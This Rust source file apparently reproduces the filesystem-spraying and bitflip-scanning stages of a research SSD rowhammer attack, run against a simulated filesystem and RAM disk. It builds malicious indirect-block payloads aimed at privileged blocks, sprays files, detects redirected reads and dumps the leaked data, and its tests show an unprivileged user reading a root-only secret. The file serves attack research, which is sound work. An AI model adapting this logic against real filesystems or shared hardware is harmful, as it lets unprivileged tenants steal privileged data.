//! Filesystem spraying and bitflip scanning — the §4.2 attack stages run by
//! the unprivileged process inside the victim VM.
//!
//! Each spray file is created "with a hole of 12 blocks (to avoid storing
//! direct data blocks)" and then "a single data block mapped using an
//! indirect block. The data blocks in turn contain a *maliciously formed
//! indirect block* pointing at target LBAs of potentially privileged
//! content."

use ssdhammer_fs::{AddressingMode, Credentials, FileSystem, FsBlock, FsError, FsResult, Ino};
use ssdhammer_simkit::{BlockDevice, BLOCK_SIZE};

/// File-logical index of the sprayed data block (first block behind the
/// indirect pointer, after the 12-direct-block hole).
pub const SPRAY_BLOCK_INDEX: u32 = 12;

/// Builds a maliciously formed indirect block: a pointer array whose slot
/// `i` targets `targets[i]`. When the FTL later redirects a victim file's
/// *real* indirect block to a block holding this payload, reading that
/// file's block `12 + i` returns the content of filesystem block
/// `targets[i]` — regardless of who owns it.
#[must_use]
pub fn malicious_indirect_payload(targets: &[FsBlock]) -> [u8; BLOCK_SIZE] {
    let mut block = [0u8; BLOCK_SIZE];
    for (i, t) in targets.iter().take(BLOCK_SIZE / 4).enumerate() {
        block[i * 4..i * 4 + 4].copy_from_slice(&t.to_le_bytes());
    }
    block
}

/// Plan for one spraying pass.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SprayPlan {
    /// Directory to spray into (must exist and be writable by the actor).
    pub dir: String,
    /// File-name prefix.
    pub prefix: String,
    /// Number of spray files to create (each consumes two data blocks).
    pub count: u32,
    /// Filesystem blocks of potentially privileged content the malicious
    /// indirect blocks should point at.
    pub targets: Vec<FsBlock>,
}

/// One sprayed file.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SprayedFile {
    /// Absolute path.
    pub path: String,
    /// Inode number.
    pub ino: Ino,
}

/// Result of a spraying pass.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct SprayReport {
    /// Every file created.
    pub files: Vec<SprayedFile>,
    /// The payload every sprayed data block holds.
    pub payload: Box<[u8; BLOCK_SIZE]>,
    /// Files that could not be created because space ran out.
    pub exhausted_at: Option<u32>,
}

impl SprayReport {
    /// Blocks consumed on the filesystem (one indirect + one data block per
    /// file).
    #[must_use]
    pub fn blocks_consumed(&self) -> u64 {
        self.files.len() as u64 * 2
    }
}

/// Sprays the filesystem per `plan`. Stops early (recording
/// `exhausted_at`) when space runs out — mirroring the paper's experience of
/// the FTL library capping spraying at 5 % of the partition.
///
/// # Errors
///
/// Path or permission errors; running out of space is *not* an error (it is
/// recorded in the report).
pub fn spray_filesystem<S: BlockDevice>(
    fs: &mut FileSystem<S>,
    cred: Credentials,
    plan: &SprayPlan,
) -> FsResult<SprayReport> {
    let payload = malicious_indirect_payload(&plan.targets);
    let mut files = Vec::with_capacity(plan.count as usize);
    let mut exhausted_at = None;
    for i in 0..plan.count {
        let path = format!("{}/{}{i}", plan.dir.trim_end_matches('/'), plan.prefix);
        let ino = match fs.create(&path, cred, 0o644, AddressingMode::Indirect) {
            Ok(ino) => ino,
            Err(FsError::NoSpace) => {
                exhausted_at = Some(i);
                break;
            }
            Err(e) => return Err(e),
        };
        match fs.write_file_block(ino, cred, SPRAY_BLOCK_INDEX, &payload) {
            Ok(()) => files.push(SprayedFile { path, ino }),
            Err(FsError::NoSpace) => {
                // The partially-written file must not survive the spray:
                // an unlink failure here is a real filesystem fault, not
                // part of running out of space, so it propagates.
                fs.unlink(&path, cred)?;
                exhausted_at = Some(i);
                break;
            }
            Err(e) => return Err(e),
        }
    }
    Ok(SprayReport {
        files,
        payload: Box::new(payload),
        exhausted_at,
    })
}

/// A detected content change in a sprayed file — a bitflip redirected its
/// indirect block, and the observed data is the content of some other
/// (potentially privileged) filesystem block.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct LeakHit {
    /// Which sprayed file changed.
    pub file: SprayedFile,
    /// What its block-12 read returned instead of the payload.
    pub observed: Box<[u8; BLOCK_SIZE]>,
}

/// §4.2's scan stage: "the attacker process in the victim VM iterates over
/// files created in the spraying stage to detect content modifications due
/// to bitflips in the L2P table."
///
/// Unreadable files (e.g. wild redirections that now fail) are skipped — the
/// attacker just moves on.
///
/// # Errors
///
/// Only unrecoverable I/O failures.
pub fn scan_for_leaks<S: BlockDevice>(
    fs: &mut FileSystem<S>,
    cred: Credentials,
    report: &SprayReport,
) -> FsResult<Vec<LeakHit>> {
    let mut hits = Vec::new();
    for file in &report.files {
        let observed = match fs.read_file_block(file.ino, cred, SPRAY_BLOCK_INDEX) {
            Ok(data) => data,
            // Any per-file failure means the chain is corrupted in a way
            // that is detectable but not useful — L2P flips can land on
            // inode-table or indirect blocks and make the file unreadable
            // (or even re-type its inode). The attacker just moves on.
            Err(_) => continue,
        };
        if observed != *report.payload {
            hits.push(LeakHit {
                file: file.clone(),
                observed: Box::new(observed),
            });
        }
    }
    Ok(hits)
}

/// After a hit, the attacker dumps more privileged blocks through the same
/// corrupted file: block `12 + i` of the victim file now resolves through
/// the malicious payload's pointer slot `i`.
///
/// # Errors
///
/// Propagates read failures.
pub fn dump_through_hit<S: BlockDevice>(
    fs: &mut FileSystem<S>,
    cred: Credentials,
    hit: &LeakHit,
    slot: u32,
) -> FsResult<[u8; BLOCK_SIZE]> {
    fs.read_file_block(hit.file.ino, cred, SPRAY_BLOCK_INDEX + slot)
}

/// Removes all sprayed files, so the attacker can "re-spray the system with
/// new files, forcing the FTL to re-shuffle all address mappings" (§4.2).
///
/// Per-file failures (including corruption-induced ones) are ignored; the
/// count of files that could not be removed is returned.
///
/// # Errors
///
/// Never fails today; the `Result` is kept for future device-level errors.
pub fn clear_spray<S: BlockDevice>(
    fs: &mut FileSystem<S>,
    cred: Credentials,
    report: &SprayReport,
) -> FsResult<usize> {
    let mut stuck = 0;
    for file in &report.files {
        match fs.unlink(&file.path, cred) {
            Ok(()) | Err(FsError::NotFound) => {}
            Err(_) => stuck += 1,
        }
    }
    Ok(stuck)
}

#[cfg(test)]
mod tests {
    use super::*;
    use ssdhammer_fs::InodeMap;
    use ssdhammer_simkit::RamDisk;

    const ROOT: Credentials = Credentials::root();
    const ATTACKER: Credentials = Credentials::user(1000);

    fn fs_with_dir() -> FileSystem<RamDisk> {
        let mut fs = FileSystem::format(RamDisk::new(4096)).unwrap();
        fs.mkdir("/tmp", ROOT, 0o777).unwrap();
        fs
    }

    #[test]
    fn payload_encodes_targets_in_order() {
        let p = malicious_indirect_payload(&[100, 200, 300]);
        assert_eq!(u32::from_le_bytes(p[0..4].try_into().unwrap()), 100);
        assert_eq!(u32::from_le_bytes(p[8..12].try_into().unwrap()), 300);
        assert!(p[12..].iter().all(|&b| b == 0));
    }

    #[test]
    fn spray_creates_holey_indirect_files() {
        let mut fs = fs_with_dir();
        let plan = SprayPlan {
            dir: "/tmp".into(),
            prefix: "sp".into(),
            count: 20,
            targets: vec![500],
        };
        let report = spray_filesystem(&mut fs, ATTACKER, &plan).unwrap();
        assert_eq!(report.files.len(), 20);
        assert_eq!(report.exhausted_at, None);
        assert_eq!(report.blocks_consumed(), 40);
        let inode = fs.read_inode(report.files[0].ino).unwrap();
        assert!(matches!(inode.map, InodeMap::Indirect { .. }));
        // Blocks 0..12 are holes.
        let hole = fs
            .read_file_block(report.files[0].ino, ATTACKER, 0)
            .unwrap();
        assert_eq!(hole, [0u8; BLOCK_SIZE]);
    }

    #[test]
    fn spray_stops_gracefully_when_full() {
        let mut fs = FileSystem::format(RamDisk::new(128)).unwrap();
        fs.mkdir("/tmp", ROOT, 0o777).unwrap();
        let plan = SprayPlan {
            dir: "/tmp".into(),
            prefix: "sp".into(),
            count: 10_000,
            targets: vec![5],
        };
        let report = spray_filesystem(&mut fs, ATTACKER, &plan).unwrap();
        assert!(report.exhausted_at.is_some());
        assert!(!report.files.is_empty());
    }

    #[test]
    fn scan_is_quiet_without_flips() {
        let mut fs = fs_with_dir();
        let plan = SprayPlan {
            dir: "/tmp".into(),
            prefix: "sp".into(),
            count: 10,
            targets: vec![7],
        };
        let report = spray_filesystem(&mut fs, ATTACKER, &plan).unwrap();
        assert!(scan_for_leaks(&mut fs, ATTACKER, &report)
            .unwrap()
            .is_empty());
    }

    #[test]
    fn scan_detects_redirected_indirect_block_and_leaks() {
        use ssdhammer_fs::InodeMap;
        use ssdhammer_simkit::Lba;

        let mut fs = fs_with_dir();
        // Privileged content the attacker cannot read directly.
        let secret = fs
            .create("/secret", ROOT, 0o600, AddressingMode::Extents)
            .unwrap();
        fs.write_file_block(secret, ROOT, 0, &[0x5E; BLOCK_SIZE])
            .unwrap();
        assert_eq!(
            fs.read_file_block(secret, ATTACKER, 0).unwrap_err(),
            FsError::PermissionDenied
        );
        // Locate the secret's filesystem block via the (root-visible) map.
        let s_inode = fs.read_inode(secret).unwrap();
        let InodeMap::Extents { inline, .. } = &s_inode.map else {
            panic!("secret uses extents");
        };
        let secret_block = inline[0].start;

        // Spray with payloads targeting the secret's block.
        let plan = SprayPlan {
            dir: "/tmp".into(),
            prefix: "sp".into(),
            count: 8,
            targets: vec![secret_block],
        };
        let report = spray_filesystem(&mut fs, ATTACKER, &plan).unwrap();

        // Simulate the useful L2P flip at the device level: the victim
        // file's indirect-block LBA now returns a malicious payload.
        let victim = &report.files[3];
        let v_inode = fs.read_inode(victim.ino).unwrap();
        let InodeMap::Indirect { single, .. } = v_inode.map else {
            panic!("sprayed file uses indirect addressing");
        };
        fs.device_mut()
            .write(Lba(u64::from(single)), report.payload.as_ref())
            .unwrap();

        // Scan finds exactly that file, and the observed content *is* the
        // privileged data (slot 0 of the malicious payload -> secret block).
        let hits = scan_for_leaks(&mut fs, ATTACKER, &report).unwrap();
        assert_eq!(hits.len(), 1);
        assert_eq!(hits[0].file.path, victim.path);
        assert_eq!(hits[0].observed.as_ref(), &[0x5E; BLOCK_SIZE]);
        // And the attacker can keep dumping through the same hit.
        let again = dump_through_hit(&mut fs, ATTACKER, &hits[0], 0).unwrap();
        assert_eq!(again, [0x5E; BLOCK_SIZE]);
    }

    #[test]
    fn clear_spray_removes_files() {
        let mut fs = fs_with_dir();
        let plan = SprayPlan {
            dir: "/tmp".into(),
            prefix: "sp".into(),
            count: 5,
            targets: vec![9],
        };
        let report = spray_filesystem(&mut fs, ATTACKER, &plan).unwrap();
        clear_spray(&mut fs, ATTACKER, &report).unwrap();
        assert!(fs.readdir("/tmp", ATTACKER).unwrap().is_empty());
    }
}
